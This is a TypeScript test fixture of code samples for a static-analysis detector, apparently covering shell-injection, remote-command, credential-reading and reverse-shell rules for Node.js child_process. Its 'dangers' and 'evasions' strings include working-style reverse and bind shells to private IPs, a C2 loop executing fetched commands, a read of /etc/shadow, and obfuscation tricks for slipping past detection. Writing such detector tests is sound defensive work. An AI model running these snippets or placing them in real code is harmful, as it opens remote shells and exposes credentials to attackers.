import type { RuleSample } from './rule-sample.fixture.ts'

export const startProcessSamples: RuleSample[] = [
  {
    rule: 'javascript/credential-command',
    dangers: [
      ['const cp = require("child_process"); ["id", "cat /etc/shadow"].forEach((c) => cp.exec(c))', 'cp.exec(c)'],
    ],
    evasions: [
      [
        'const cp = require("child_process"); const list = ["id", "cat /etc/" + "shadow"]; for (const c of list) cp.exec(c)',
        'cp.exec(c)',
      ],
    ],
    harmless: ['const cp = require("child_process"); for (const c of ["ls", "date"]) cp.execSync(c)'],
  },
  {
    rule: 'javascript/shell-injection',
    dangers: [
      [
        'const { exec } = require("child_process"); function ping(host) { exec("ping -c 1 " + host, console.log) }',
        'exec("ping',
      ],
      [
        'import { execSync } from "node:child_process"\nexport const list = (dir) => execSync(`ls -la ${dir}`).toString()',
        'execSync(`ls',
      ],
      [
        'const cp = require("child_process"); app.get("/ping", (req, res) => cp.exec(`ping ${req.query.host}`, (e, out) => res.send("x")))',
        'cp.exec(`ping',
      ],
      [
        'const { spawn } = require("child_process"); function run(name) { spawn("convert " + name, { shell: true }) }',
        'spawn("convert',
      ],
      [
        'const { spawn } = require("child_process"); function run(cmd) { return spawn("sh", ["-c", cmd]) }',
        'spawn("sh"',
      ],
      ['require("child_process").execSync("git clone " + process.argv[2])', 'require("child_process").execSync'],
      ['const shell = require("shelljs"); function rm(f) { shell.exec("rm " + f) }', 'shell.exec("rm "'],
      [
        'const { exec } = require("child_process"); const rl = require("readline").createInterface({ input: process.stdin }); rl.question("name? ", (answer) => { exec("whois " + answer) })',
        'exec("whois',
      ],
      ['const { exec } = require("child_process"); exec(process.env.USER_COMMAND)', 'exec(process.env.USER_COMMAND)'],
    ],
    evasions: [
      ['const m = "child_" + "process"; const run = require(m)["ex" + "ec"]; function go(x) { run(x) }', 'run(x)'],
      [
        'import * as cp from "node:child_process"\nconst { exec: go } = cp\nfunction f(a) { const line = ["ls", a].join(" "); go(line) }',
        'go(line)',
      ],
      ['import("child_process").then(({ exec }) => { exec("ls " + location.hash) })', 'exec("ls'],
      [
        'const util = require("util"); const sh = util.promisify(require("child_process").exec); async function f(a) { await sh(`cat ${a}`) }',
        'sh(`cat',
      ],
      [
        'process.mainModule.require("child_process").exec(payload)',
        'process.mainModule.require("child_process").exec(payload)',
      ],
      [
        'const names = ["exec", "child_process"]; function go(x) { require(names[1])[names[0]](x) }',
        'require(names[1])[names[0]](x)',
      ],
      [
        'class Tool { constructor(cp) { this.cp = require("child_process") } run(x) { this.cp.exec("a " + x) } }',
        'this.cp.exec',
      ],
      [
        'const { exec } = require("child_process"); let cmd = "tar cf "; function pack(n) { cmd += n; exec(cmd) }',
        'exec(cmd)',
      ],
    ],
    harmless: [
      'const { execFile } = require("child_process"); function ping(host) { if (!/^[a-z0-9.]+$/.test(host)) return; execFile("ping", ["-c", "1", host]) }',
      'const { execSync } = require("child_process"); console.log(execSync("git rev-parse HEAD").toString())',
      'const { exec } = require("child_process"); function show(n) { exec(`head -n ${Number(n)} log.txt`) }',
      'const match = /a(b)/.exec(text); const r = pattern.exec(line)',
      'const { exec } = require("child_process"); const ALLOWED = ["a", "b"]; function go(x) { if (!ALLOWED.includes(x)) throw new Error(x); exec("tool " + x) }',
    ],
  },
  {
    rule: 'javascript/shell-injection',
    language: 'typescript',
    dangers: [
      [
        'import { exec } from "child_process"\nexport class Git { clone(url: string): void { exec(`git clone ${url}`) } }',
        'exec(`git',
      ],
    ],
    evasions: [
      [
        'import cp = require("child_process")\nexport function go(cmd: string) { (cp as any).exec(cmd) }',
        '(cp as any).exec(cmd)',
      ],
    ],
    harmless: [
      'import { exec } from "child_process"\nexport function head(lines: number) { exec(`head -n ${lines} log.txt`) }',
    ],
  },
  {
    rule: 'javascript/remote-command',
    dangers: [
      [
        'const net = require("net"), { exec } = require("child_process"); const s = net.connect(4444, "10.0.0.1"); s.on("data", d => exec(d.toString(), (e, o) => s.write(o)))',
        'exec(d.toString()',
      ],
      [
        'const { execSync } = require("child_process"); setInterval(async () => { const r = await fetch(c2); const cmd = await r.text(); execSync(cmd) }, 5000)',
        'execSync(cmd)',
      ],
    ],
    evasions: [
      [
        'const W = require("ws"); const s = new W("wss://c2.test"); s.on("message", m => require("child_" + "process").exec(String(m)))',
        'require("child_"',
      ],
    ],
    harmless: ['const s = require("net").connect(80, "localhost"); s.on("data", d => console.log(d.toString()))'],
  },
  {
    rule: 'javascript/foreign-program',
    dangers: [
      [
        'const { spawn } = require("child_process"); app.get("/run", (req, res) => { spawn(req.query.tool, []) })',
        'spawn(req.query.tool',
      ],
    ],
    evasions: [
      [
        'const { execFile } = require("child_process"); app.get("/x", (q, s) => { const { tool: t } = q.query; execFile(t) })',
        'execFile(t)',
      ],
    ],
    harmless: ['const { spawn } = require("child_process"); spawn("git", ["status"])'],
  },
  {
    rule: 'javascript/option-injection',
    dangers: [
      [
        'const { execFile } = require("child_process"); app.get("/x", (req, res) => execFile("git", ["log", req.query.ref]))',
        'execFile("git"',
      ],
    ],
    evasions: [
      [
        'const { spawn } = require("child_process"); app.get("/x", (req, res) => { const list = []; list.push(req.query.a); spawn("tar", list) })',
        'spawn("tar", list)',
      ],
    ],
    harmless: ['const { execFile } = require("child_process"); execFile("git", ["log", "--oneline"])'],
  },
  {
    rule: 'javascript/process-start',
    dangers: [['const { execSync } = require("child_process"); execSync("ls")', 'execSync("ls")']],
    evasions: [
      ['require("node:child_process")["spawnSync"]("ls")', 'require("node:child_process")["spawnSync"]("ls")'],
    ],
    harmless: ['const spawn = (kind) => ({ kind }); spawn("monster")'],
  },
  {
    rule: 'javascript/reverse-shell',
    dangers: [
      [
        '(function(){ var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []); var client = new net.Socket(); client.connect(8080, "10.0.0.5", function(){ client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); }); return /a/; })();',
        'cp.spawn("/bin/sh"',
      ],
      [
        'const net = require("net"); const { spawn } = require("child_process"); net.createServer(s => { const sh = spawn(process.platform === "win32" ? "cmd.exe" : "bash", ["-i"]); s.pipe(sh.stdin); sh.stdout.pipe(s) }).listen(4444)',
        'spawn(process.platform',
      ],
    ],
    evasions: [
      [
        'const n = require("n" + "et"), c = require("child_process"); const p = c["sp" + "awn"]("/bin/" + "sh"); const s = n.connect(1, "h"); s.on("data", d => p.stdin.write(d)); p.stdout.on("data", d => s.write(d))',
        'c["sp" + "awn"]',
      ],
    ],
    harmless: [
      'const net = require("net"); const server = net.createServer(s => s.pipe(s)); server.listen(7)',
      'const { spawn } = require("child_process"); const p = spawn("sort"); p.stdout.pipe(process.stdout); p.stdin.end("b\\na\\n")',
    ],
  },
]
